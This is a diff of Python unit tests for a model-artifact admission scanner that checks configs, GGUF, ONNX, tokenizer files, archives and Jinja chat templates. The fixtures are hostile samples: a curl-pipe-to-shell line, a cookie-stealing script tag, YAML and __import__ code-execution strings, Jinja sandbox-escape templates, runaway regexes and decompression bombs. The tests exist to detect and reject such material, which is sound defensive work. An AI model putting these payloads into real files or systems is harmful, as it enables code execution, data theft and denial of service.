@@ -1,8 +1,11 @@
+import base64
 import errno
+import gzip
 import json
 import os
 import socket
 import struct
+import tarfile
 import time
 import warnings
 from pathlib import Path
@@ -12,12 +15,14 @@ import pytest
 from pedigree.admission import receiving
 from pedigree.admission.receiving import receive
 from pedigree.admission.scan import scan_bytes, scan_path, scan_received
+from pedigree.admission.verdict import Limits
 from pedigree.digests import digest_manifest
 from pedigree.errors import PedigreeError
 from tests.unit.admission.artifacts import (
     hostile,
     model_folder,
     onnx_bytes,
+    protobuf_field,
     safetensors_bytes,
     tar_bytes,
 )
@@ -320,3 +325,281 @@ def test_a_header_of_numpy_that_python_warns_of_prints_nothing() -> None:
     assert seen == []
     assert scan.outcome == "rejected"
     assert [finding.rule for finding in scan.findings] == ["npy"]
+
+
+def test_a_name_twice_among_very_many_is_found_at_once() -> None:
+    names = ",".join(f'"k{i}":0' for i in range(100_000))
+    began = time.process_time()
+    scan = scan_bytes(f'{{{names},"k99999":1}}'.encode(), "config.json")
+    assert time.process_time() - began < 5
+    assert "'k99999' is there twice" in scan.findings[0].reason
+
+
+def test_texts_of_one_character_keep_no_pattern_busy() -> None:
+    began = time.process_time()
+    for text in ("\\" * 99_000, "lambda" + " " * 99_000, "<script" * 9_000, "`" * 99_000):
+        for name, data in {"README.md": text, "config.json": json.dumps({"x": text})}.items():
+            scan_bytes(data.encode(), name)
+    assert time.process_time() - began < 5
+
+
+def test_json_of_more_values_than_any_vocabulary_is_rejected_before_it_is_parsed(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr("pedigree.admission.strict_json._MAX_VALUES", 1000)
+    for name, data in {
+        "config.json": b'{"a":[' + b"[]," * 1000 + b"0]}",
+        "a.safetensors": safetensors_bytes(b'{"a":[' + b"{}," * 1000 + b"0]}"),
+    }.items():
+        assert "more than 1000 values" in scan_bytes(data, name).findings[0].reason
+    assert scan_bytes(b'{"a": 1e999}', "config.json").outcome == "rejected"
+
+
+def zip_of_shared_bytes(members: int, size: int) -> bytes:
+    """Return a zip each of whose members is the whole of one content."""
+    fields = (20, 0, 0, 0, 0, 0, size, size, 1, 0)
+    local = b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", *fields) + b"x" + b"a" * size
+    entry = struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 0, 0, size, size, 6, *[0] * 6)
+    directory = b"".join(
+        b"PK\x01\x02" + entry[:-4] + bytes(4) + b"%06d" % i for i in range(members)
+    )
+    count = min(members, 65_535)
+    end = struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), len(local), 0)
+    return local + directory + b"PK\x05\x06" + end
+
+
+def test_archives_that_would_keep_the_scan_busy_end_at_a_limit() -> None:
+    began = time.process_time()
+    header = b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, *[0] * 7, 1, 0) + b"x"
+    long_header = tarfile.TarInfo("a")
+    long_header.type, long_header.size = tarfile.XHDTYPE, 8 << 20
+    for name, data in {
+        "shared.zip": zip_of_shared_bytes(10_000, 1 << 20),
+        "no_directory.zip": (header + b"hello world " * 400) * 2_000,
+        "directory.zip": zip_of_shared_bytes(350_000, 1),
+        "streams.gz": gzip.compress(b"") * 30_000,
+        "header.tar": long_header.tobuf(tarfile.USTAR_FORMAT) + b"1" * (8 << 20) + bytes(1024),
+    }.items():
+        assert scan_bytes(data, name).outcome == "rejected", name
+    assert time.process_time() - began < 20
+
+
+def gguf_bytes(
+    sizes: list[int], kind: int = 0, after: bytes = b"", key: bytes = b"", value: bytes = b""
+) -> bytes:
+    """Return a GGUF file of one tensor with 64 bytes behind its table."""
+    entry = struct.pack("<Q", len(key)) + key + value if key else b""
+    table = struct.pack("<Q", 1) + b"w" + struct.pack("<I", len(sizes))
+    table += b"".join(struct.pack("<Q", size) for size in sizes) + struct.pack("<IQ", kind, 0)
+    head = b"GGUF" + struct.pack("<IQQ", 3, 1, bool(key)) + entry + table
+    return head + bytes(-len(head) % 32) + bytes(64) + after
+
+
+def test_tensors_of_gguf_lie_within_the_file() -> None:
+    assert scan_bytes(gguf_bytes([16]), "m.gguf").findings == ()
+    assert scan_bytes(gguf_bytes([32, 2], 2), "m.gguf").findings == ()
+    for sizes in ([1 << 40, 1 << 40], [17], [0], [1] * 5):
+        assert scan_bytes(gguf_bytes(sizes), "m.gguf").outcome == "rejected", sizes
+    assert scan_bytes(gguf_bytes([16], 2), "m.gguf").outcome == "rejected"  # half a block
+    assert scan_bytes(gguf_bytes([16], 999), "m.gguf").outcome == "quarantined"
+    assert scan_bytes(gguf_bytes([16], after=bytes(100)), "m.gguf").outcome == "quarantined"
+    templates = struct.pack("<IIQQ", 9, 8, 1, 1) + b"x"
+    listed = gguf_bytes([16], key=b"tokenizer.chat_template", value=templates)
+    assert "is no text" in scan_bytes(listed, "m.gguf").findings[0].reason
+
+
+def test_operators_that_the_model_itself_is_made_of_are_not_custom() -> None:
+    node = protobuf_field(4, b"F") + protobuf_field(7, b"local")
+    inner = protobuf_field(4, b"Relu")
+    made = protobuf_field(1, b"F") + protobuf_field(10, b"local")
+    start = protobuf_field(1, 7) + protobuf_field(7, protobuf_field(1, node))
+    start += protobuf_field(8, protobuf_field(1, b"local") + protobuf_field(2, 1))
+
+    def function(body: bytes) -> bytes:
+        content = made + protobuf_field(7, body)
+        return b"\xca\x01" + bytes([len(content)]) + content
+
+    assert scan_bytes(start + function(inner), "m.onnx").findings == ()
+    assert "local.F" in scan_bytes(start, "m.onnx").findings[0].reason
+    other = function(inner + protobuf_field(7, b"com.evil"))
+    assert "com.evil.Relu" in scan_bytes(start + other, "m.onnx").findings[0].reason
+
+
+def sentencepiece_bytes(normaliser: bytes = b"", more: bytes = b"") -> bytes:
+    piece = protobuf_field(1, b"a") + bytes([2 << 3 | 5]) + bytes(4)
+    spec = protobuf_field(1, b"nmt") + normaliser
+    return protobuf_field(1, piece) + protobuf_field(2, b"") + protobuf_field(3, spec) + more
+
+
+def test_word_lists_and_their_tables_of_characters_are_looked_into() -> None:
+    table = struct.pack("<I", 8) + bytes(8) + b"a\0"
+    short = struct.pack("<I", 800) + bytes(8)
+    assert scan_bytes(sentencepiece_bytes(protobuf_field(2, table)), "spm.model").findings == ()
+    assert scan_bytes(sentencepiece_bytes(protobuf_field(2, short)), "spm.model").findings != ()
+    extra = sentencepiece_bytes(more=protobuf_field(9, b"x"))
+    assert "field 9" in scan_bytes(extra, "tokenizer.model").findings[0].reason
+
+    def tokenizer(content: bytes) -> bytes:
+        text = base64.b64encode(content).decode()
+        return json.dumps({"normalizer": {"precompiled_charsmap": text}}).encode()
+
+    real = struct.pack("<I", 180_000) + bytes(180_000) + b"word\0" * 9_000
+    assert scan_bytes(tokenizer(real), "tokenizer.json").findings == ()
+    for broken in (short, b"abc", table + b"a", struct.pack("<I", 3) + bytes(8)):
+        assert scan_bytes(tokenizer(broken), "tokenizer.json").outcome == "rejected"
+
+
+@pytest.mark.parametrize(
+    ("pattern", "runs_away"),
+    [
+        (r"(a+)+$", True), (r"(?:\p{L}*)*x", True), (r"(x|x)*y", True), (r"((a{1,}b?)+)+", True),
+        (r"(a|b||c)*", True), (r"(?:[a-z]+[0-9]*){2,}", True),
+        (r"'s|'t| ?\p{L}+| ?\p{N}+| ?[^\s\p{L}\p{N}]+|\s+(?!\S)|\s+", False),
+        (r"(?i:'s|'t)|[^\r\n\p{L}]?\p{L}+|\p{N}{1,3}|\s*[\r\n]+|\s+(?!\S)", False),
+        (r"\d{1,3}(?=(?:\d{3})*\b)", False), (r" ?[^(\s|[.,!?])]+", False), (r"(?>a+)+", False),
+        (r"(?:a++)+", False), (r"(a\)+", False), (r"[", False), (r")+", False), (r"(a|b)+", False),
+    ],
+)  # fmt: skip
+def test_patterns_that_may_run_away_are_for_a_person(pattern: str, runs_away: bool) -> None:
+    data = json.dumps({"pre_tokenizer": {"pattern": {"Regex": pattern}}}).encode()
+    expected = "quarantined" if runs_away else "admitted"
+    assert scan_bytes(data, "tokenizer.json").outcome == expected
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "{% for a in range(900) %}{% for b in range(900) %}{% for c in range(900) %}x{% endfor %}"
+        "{% endfor %}{% endfor %}",
+        "{% set n = 9999 %}{% for a in range(n) %}{% for b in range(n) %}{% endfor %}{% endfor %}",
+        "{{ 'a' * 9999 * 9999 * 9999 }}", "{% set n = 9999 %}{{ 'a' * n * n * n }}",
+        "{% set ns = namespace(x='a') %}{% for i in y %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}",
+        "{% set ns = namespace(x='a') %}{% for i in y %}{% set ns.x = ns.x | tojson %}{% endfor %}",
+        "{% set ns = namespace(x='a', y='') %}{% for i in z %}{% set ns.y = ns.x %}"
+        "{% set ns.x = ns.x ~ ns.y %}{% endfor %}",
+        "{% set a = 'aa' %}" + "{% set a = a ~ a %}" * 40,
+        "{{ 'a'.ljust(999999) }}", "{{ 'a' | center(999999) }}", "{{ '%999999d' % 1 }}",
+        "{{ '{:999999}'.format(1) }}", "{{ x ** 99 }}",
+        "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(6) }}",
+        "{% macro f(s, n) %}{% if n %}{{ f(s ~ s, n - 1) }}{% endif %}{% endmacro %}{{ f(x, 6) }}",
+        "{% for x in y recursive %}{{ loop([1, 2]) }}{% endfor %}",
+    ],
+)  # fmt: skip
+def test_templates_that_grow_or_go_on_without_a_bound_are_not_admitted(text: str) -> None:
+    assert scan_bytes(text.encode(), "chat_template.jinja").outcome != "admitted"
+
+
+def test_templates_of_many_names_and_macros_are_judged_soon() -> None:
+    calls = "".join(f"{{{{ m{i}(x) }}}}" for i in range(39))
+    macros = "".join(f"{{% macro m{i}(x) %}}{calls}{{% endmacro %}}" for i in range(99))
+    chain = "".join(f"{{% set a{i} = a{i - 1} ~ b{i} %}}" for i in range(1, 400))
+    ring = "".join(f"{{% set n.a{i} = n.a{(i + 1) % 400} %}}" for i in range(400))
+    began = time.process_time()
+    for text in (macros, chain, ring, "{{ " + "a ~ " * 40_000 + "a }}"):
+        scan_bytes(text.encode(), "chat_template.jinja")
+    assert time.process_time() - began < 20
+
+
+def test_templates_are_judged_up_to_a_limit_in_all() -> None:
+    data = json.dumps({"chat_template": [{"name": "a", "template": "{{ a }}" * 100}] * 20}).encode()
+    assert scan_bytes(data, "tokenizer_config.json").outcome == "admitted"
+    scan = scan_bytes(data, "tokenizer_config.json", Limits(templates=10_000))
+    assert [finding.rule for finding in scan.findings] == ["too_much"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "{% set a = '_' ~ '_class_' ~ '_' %}{{ ''[a] }}",
+        "{% set a = ['_', '_class_', '_'] %}{{ ''[a | join] }}",
+        "{% set ns = namespace(k='') %}{% set ns.k = '_' ~ '_class_' ~ '_' %}{{ ''[ns.k] }}",
+        "{% set a %}_{% endset %}{{ ''[a ~ '_class_' ~ a] }}",
+        "{% set joiner = 1 %}{{ joiner }}",
+        "{{ x | join('', attribute=y) }}",
+    ],
+)
+def test_names_that_a_template_builds_beforehand_are_found(text: str) -> None:
+    assert scan_bytes(text.encode(), "chat_template.jinja").outcome == "rejected"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "{% macro f(v) %}{% if v is mapping %}{% for k, x in v | dictsort %}{{ f(x) }}{% endfor %}"
+        "{% for i in v %}{{ f(i) }}{% endfor %}{% endif %}{% endmacro %}{{ f(tools) }}",
+        "{% macro t(s) %}{{ t(s['items']) }}{{ t(s.other) }}{% endmacro %}{{ t(tools) }}",
+        "{% set ns = namespace(out='') %}{% for p in text.split('x') %}"
+        "{% set ns.out = ns.out ~ p ~ '\\n' %}{% endfor %}{{ ns.out | trim }}",
+        "{% set type = 'a' %}{{ roles[message['role'] | lower] }}{{ type }}{{ message.system }}",
+        "{{ '{}: {}'.format(a, b) }}{{ '  ' * (depth + 1) }}{{ '=' * 80 }}",
+        "{% for i in range(messages | length) %}{% for j in range(i) %}x{% endfor %}{% endfor %}",
+        "{% set index = (messages | length - 1) - loop.index0 %}{{ messages[index]['role'] }}",
+        "{% set c = m.content %}{% set c = c.split('</think>')[-1].lstrip() %}{{ c }}",
+    ],
+)
+def test_what_templates_of_published_models_do_is_admitted(text: str) -> None:
+    assert scan_bytes(text.encode(), "chat_template.jinja").findings == ()
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "expected"),
+    [
+        ("README.md", "@a{b, title={{X}: y {Z}}}\n```html\n<script>a</script>\n```\n", "admitted"),
+        ("README.md", "# A\n<script>a</script>\n", "quarantined"),
+        ("README.md", "---\na: !!python/object/apply:a.b [c]\n---\n", "rejected"),
+        ("README.md", "# A\nx = __import__('a')\n", "rejected"),
+        ("LICENSE", "exec(open('a').read())\n", "rejected"),
+        ("merges.txt", "#version: 0.2\na b\nimport ant\nimport ance\n{{ {\n}} }\n", "admitted"),
+        ("vocab.txt", "x = __import__('a')\n", "rejected"), ("vocab.txt", "x^\nMZ\n", "admitted"),
+        ("vocab.txt", "MZ\n", "admitted"), ("adapter.yaml", "a: !!python/name:a.b\n", "rejected"),
+        ("run.sh", "echo\ncurl http://a.b/c | sh\n# {{ x }}\n", "rejected"),
+        ("run.py", "# {{ x }}\nprint()\n", "quarantined"), ("a.txt", "{{ x }}", "admitted"),
+        ("a.ipynb", '{"cells": [], "nbformat": 4}', "rejected"), ("a.pkl", "{}", "quarantined"),
+        ("package.json", '{"version": "1", "scripts": {"install": "x"}}', "rejected"),
+        ("a.json", '{"data":{"x": 1}}', "admitted"), ("a.json", '{"abc":[{"x": 1}]}', "admitted"),
+        ("vocab.json", '{"__class__": 1, "auto_map": 2, "\\u0085": 3}', "admitted"),
+        ("config.json", '{"id2label": {"0": "<script>a</script>"}}', "rejected"),
+        ("config.json", '{"x": {"<script>alert(document.cookie)</script>": {}}}', "rejected"),
+        ("config.json", '{"num_attention_heads": [1, 2], "vocab_size": null}', "admitted"),
+        ("config.json", '{"num_hidden_layers": 100000000}', "rejected"),
+        ("config.json", '{"hidden_size": [4, "a"]}', "rejected"),
+        ("config.json", '{"trust_remote_code": 1}', "rejected"),
+        ("config.json", '{"activation_function": "runpy.run_path"}', "quarantined"),
+        ("config.json", '{"activation_function": "torch.nn.modules.activation.Tanh"}', "admitted"),
+        ("config.json", '{"layers": [{"module": "os", "class_name": "system"}]}', "rejected"),
+        ("config.json", '{"attn_implementation": "owner/kernel"}', "rejected"),
+        ("config.json", '{"text_config": {"_attn_implementation": "owner/a@v1:b"}}', "rejected"),
+        ("config.json", '{"kernel_config": {"Norm": {"cuda": "owner/a:b"}}}', "rejected"),
+        ("config.json", '{"attn_implementation": "sdpa", "kernel_size": 3}', "admitted"),
+        ("config.json", '{"a": {"base_model_class": "A", "parent_library": "b"}}', "rejected"),
+        ("adapter_config.json", '{"auto_mapping": {"base_model_class": "BertModel", '
+         '"parent_library": "transformers.models.bert.modeling_bert"}}', "admitted"),
+        ("adapter_config.json", '{"target_modules": "(a+)+$"}', "quarantined"),
+        ("adapter_config.json", '{"target_modules": ".*(q|v)_proj"}', "admitted"),
+        ("a.json", '{"__module__": "os", "__class__": "system"}', "rejected"),
+        ("a.json", '{"__module__": "sklearn.svm", "__class__": "SVC"}', "quarantined"),
+        ("modules.json", '[{"path": "../x", "type": "sentence_transformers.models.Pooling"}]',
+         "rejected"),
+        ("modules.json", '[{"path": "", "type": "sentence_transformers.util.import_from_string"}]',
+         "rejected"),
+        ("modules.json", '[{"path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]',
+         "admitted"),
+    ],
+)  # fmt: skip
+def test_texts_are_judged_by_what_they_are_for(name: str, text: str, expected: str) -> None:
+    assert scan_bytes(text.encode(), name).outcome == expected
+
+
+def test_names_in_a_folder_are_plain_and_end_as_documents_do(tmp_path: Path) -> None:
+    folder = model_folder(tmp_path / "m")
+    for name in ("LICENSE-MIT", "LICENSE.MIT", "README.zh-CN.md", "README_de.md"):
+        (folder / name).write_text("a text\n")
+    (folder / "spm.model").write_bytes(sentencepiece_bytes())
+    assert scan_path(folder).outcome == "admitted"
+    wrong = {"README.py", "LICENSE.sh", "NOTICE.pth", "README.ipynb"}
+    for name in wrong:
+        (folder / name).write_text("a text\n")
+    odd = {"m\u043edel.safetensors", "-rf.safetensors", ".a.safetensors"}  # a Cyrillic letter
+    for name in odd:
+        (folder / name).write_bytes(safetensors_bytes())
+    assert set(by_file(folder)) == wrong | odd
